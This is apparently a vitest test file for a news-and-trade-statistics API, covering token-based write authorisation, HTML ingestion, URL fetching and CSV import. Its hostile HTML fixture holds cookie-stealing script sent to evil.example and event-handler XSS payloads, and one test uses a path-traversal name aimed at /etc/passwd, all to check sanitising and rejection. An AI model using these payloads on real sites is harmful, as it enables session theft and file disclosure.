import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Store } from '../../src/store/store.js';
import { exampleStore, serverFor } from './_server.js';

// Writes: the bearer token (none set, wrong, right), documents as text, HTML and URL, statistics files.
const TOKEN = 'test-token-3f9a1c';
const auth = { authorization: `Bearer ${TOKEN}` };

let store: Store;
let cleanup: () => Promise<void>;
let app: FastifyInstance;
let page: Server;
let pageUrl: string;

const HOSTILE_HTML = `<!DOCTYPE html><html lang="en"><head><title>Astana hosts talks</title>
<script>window.stolen = document.cookie</script></head>
<body onload="alert('body')"><article><h1>Astana hosts talks on transit corridor</h1>
<p onclick="alert('p')">Kazakhstan and China agreed on Tuesday to expand the Middle Corridor, officials said after talks in Astana.
Bilateral trade reached $41 billion last year, according to Chinese customs data, and both sides plan to raise it further.</p>
<script>fetch('https://evil.example/' + document.cookie)</script>
<p>The delegations also discussed <img src="x" onerror="alert('img')">new logistics hubs and a joint venture for grain storage.</p>
<p>Officials said the next round of talks would take place in Beijing in the autumn, with transport ministers attending.</p>
</article></body></html>`;

beforeAll(async () => {
  const example = await exampleStore();
  store = example.store;
  cleanup = example.cleanup;
  app = await serverFor(store, { token: TOKEN });
  page = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(HOSTILE_HTML.replace('Astana hosts talks on', 'Almaty hosts talks on'));
  });
  await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
  pageUrl = `http://127.0.0.1:${(page.address() as AddressInfo).port}/talks.html`;
}, 60_000);

afterAll(async () => {
  await app?.close();
  await new Promise((resolve) => page?.close(resolve));
  await cleanup?.();
});

const post = (url: string, payload: unknown, headers: Record<string, string> = auth) =>
  app.inject({ method: 'POST', url, payload: payload as string, headers });

describe('write auth', () => {
  it('with no ACCORD_TOKEN the server refuses writes with 403 and says how to enable them', async () => {
    const readOnly = await serverFor(store);
    for (const url of ['/api/documents', '/api/stats?name=x.csv']) {
      const response = await readOnly.inject({ method: 'POST', url, payload: { text: 'x' }, headers: auth });
      expect(response.statusCode).toBe(403);
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(response.json().detail).toMatch(/set ACCORD_TOKEN to enable writes/);
    }
    await readOnly.close();
  });

  it.each([
    ['no Authorization header', {}],
    ['a wrong token', { authorization: 'Bearer not-the-token' }],
    ['a token one character short', { authorization: `Bearer ${TOKEN.slice(0, -1)}` }],
    ['another scheme', { authorization: `Basic ${TOKEN}` }],
  ])('%s is 401 with WWW-Authenticate', async (_label, headers) => {
    const response = await post('/api/documents', { text: 'Kazakhstan and China met.' }, headers);
    expect(response.statusCode).toBe(401);
    expect(response.headers['www-authenticate']).toMatch(/^Bearer/);
    expect(response.json().type).toBe('urn:accord:problem:unauthorized');
  });

  it('the right token writes: 201 the first time, 200 when the same content is posted again', async () => {
    const text =
      'Kazakhstan and China signed a memorandum on green energy on 2 September 2024. Trade reached $43 billion in 2024.';
    const first = await post('/api/documents', { text, outlet: 'Test Wire', published: '2024-09-03' });
    expect(first.statusCode).toBe(201);
    const body = first.json();
    expect(body).toMatchObject({
      stored: true,
      documents: [{ stored: true, source: 'api:text' }],
      failed: [],
    });
    expect(first.headers.location).toBe(`/api/documents/${body.id}`);
    const again = await post('/api/documents', { text });
    expect(again.statusCode).toBe(200);
    expect(again.json()).toMatchObject({ id: body.id, stored: false });
    const stored = await app.inject({ url: `/api/documents/${body.id}` });
    expect(stored.json()).toMatchObject({ outlet: 'Test Wire', published: '2024-09-03' });
    expect(stored.json().figures.length).toBeGreaterThan(0);
  });
});

describe('POST /api/documents', () => {
  it('a new relationship shows in the overview at once (the shared overview is cleared by writes)', async () => {
    const labels = async () =>
      (await app.inject({ url: '/api/relationships?limit=500' }))
        .json()
        .items.map((r: { label: string }) => r.label);
    expect(await labels()).not.toContain('Kazakhstan–Türkiye');
    const text =
      'Trade between Kazakhstan and Turkey reached $6.4 billion in 2023, the trade ministry in Astana said.';
    expect((await post('/api/documents', { text, published: '2024-02-01' })).statusCode).toBe(201);
    expect((await labels()).some((label: string) => /Kazakhstan–T(ü|u)rk/.test(label))).toBe(true);
  });

  it('HTML ingest drops scripts and event attributes; the text is returned as plain JSON text', async () => {
    const response = await post('/api/documents', {
      html: HOSTILE_HTML,
      outlet: 'Test Wire',
      published: '2024-09-10',
    });
    expect(response.statusCode).toBe(201);
    const document = await app.inject({ url: `/api/documents/${response.json().id}` });
    expect(document.headers['content-type']).toMatch(/^application\/json/);
    const { text, title } = document.json();
    expect(title).toMatch(/hosts talks/);
    expect(text).toMatch(/Middle Corridor/);
    expect(text).not.toMatch(/<script|<\/?p\b|<img|onload|onclick|onerror|alert|cookie|evil\.example/i);
  });

  it('text that contains markup is kept as the characters it is, never as HTML', async () => {
    const text =
      'Kazakhstan and China met in Astana. The note read <script>alert(1)</script> and <b onmouseover="x()">bold</b>.';
    const response = await post('/api/documents', { text });
    const document = await app.inject({ url: `/api/documents/${response.json().id}` });
    expect(document.headers['content-type']).toMatch(/^application\/json/);
    expect(document.headers['x-content-type-options']).toBe('nosniff');
    expect(document.json().text).toContain('<script>alert(1)</script>');
  });

  it('a URL is fetched and ingested like `accord ingest URL`', async () => {
    const response = await post('/api/documents', { url: pageUrl, published: '2024-09-12' });
    expect(response.statusCode).toBe(201);
    expect(response.json().documents[0].source).toBe(pageUrl);
    const document = await app.inject({ url: `/api/documents/${response.json().id}` });
    expect(document.json().text).toMatch(/Almaty hosts talks/);
    expect(document.json().text).not.toMatch(/alert|cookie/);
  });

  it('a URL that cannot be fetched is a 502 problem', async () => {
    const closed = createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const port = (closed.address() as AddressInfo).port;
    await new Promise((resolve) => closed.close(resolve));
    const response = await post('/api/documents', { url: `http://127.0.0.1:${port}/gone` });
    expect(response.statusCode).toBe(502);
    expect(response.json().type).toBe('urn:accord:problem:upstream');
  });

  it.each([
    [{}, /exactly one of text, html or url \(got none\)/],
    [{ text: 'a', html: '<p>b</p>' }, /exactly one .* \(got text, html\)/],
    [{ url: 'ftp://example.org/x' }, /url/],
    [{ text: '' }, /text/],
    [{ text: 'Astana.', published: '03/07/2024' }, /published/],
    [{ text: '   \n  ' }, /whitespace|text/],
  ])('%j is a 400 problem', async (payload, detail) => {
    const response = await post('/api/documents', payload);
    expect(response.statusCode).toBe(400);
    expect(response.json().detail).toMatch(detail);
  });
});

describe('POST /api/stats', () => {
  const csv = [
    'indicator,parties,period,value,unit,source,direction,reporter',
    'trade.total,CN;UZ,2023,14000000000,USD,Statistics Agency of Uzbekistan,,UZ',
    'trade.total,CN;UZ,2022,9000000000,USD,Statistics Agency of Uzbekistan,,UZ',
  ].join('\n');

  it('imports a CSV file, and posting the same name again replaces it', async () => {
    const headers = { ...auth, 'content-type': 'text/csv' };
    const first = await post('/api/stats?name=cn-uz.csv', csv, headers);
    expect(first.statusCode).toBe(201);
    expect(first.json()).toEqual({ file: 'api:cn-uz.csv', imported: 2, replaced: 0, notes: [] });
    const listed = await app.inject({ url: '/api/stats?parties=UZ,CN' });
    expect(
      listed
        .json()
        .items.map((o: { value: number }) => o.value)
        .sort((a: number, b: number) => a - b),
    ).toEqual([9e9, 14e9]);
    const again = await post('/api/stats?name=cn-uz.csv', csv.split('\n').slice(0, 2).join('\n'), headers);
    expect(again.json()).toMatchObject({ imported: 1, replaced: 2 });
  });

  it('a bad row is a 400 problem naming the file and row, and nothing is imported', async () => {
    const bad = `${csv}\ntrade.total,CN;UZ,2021,lots,USD,x,,UZ`;
    const response = await post('/api/stats?name=bad.csv', bad, { ...auth, 'content-type': 'text/csv' });
    expect(response.statusCode).toBe(400);
    expect(response.json().detail).toMatch(/bad\.csv/);
    expect(response.json().detail).not.toMatch(/accord-stats-/);
    const listed = await app.inject({ url: '/api/stats?parties=CN,UZ&limit=500' });
    expect(listed.json().items.every((o: { file: string }) => o.file !== 'api:bad.csv')).toBe(true);
  });

  it.each([
    ['a missing name', '/api/stats', 'text/csv', 400],
    ['a name with a path', '/api/stats?name=..%2Fetc%2Fpasswd', 'text/csv', 400],
    ['a plain-text body', '/api/stats?name=x.csv', 'text/plain', 415],
    ['a form body', '/api/stats?name=x.csv', 'application/x-www-form-urlencoded', 415],
  ])('%s is refused (%s %s → %i)', async (_label, url, type, status) => {
    const response = await post(url, csv, { ...auth, 'content-type': type });
    expect(response.statusCode).toBe(status);
    expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
  });
});
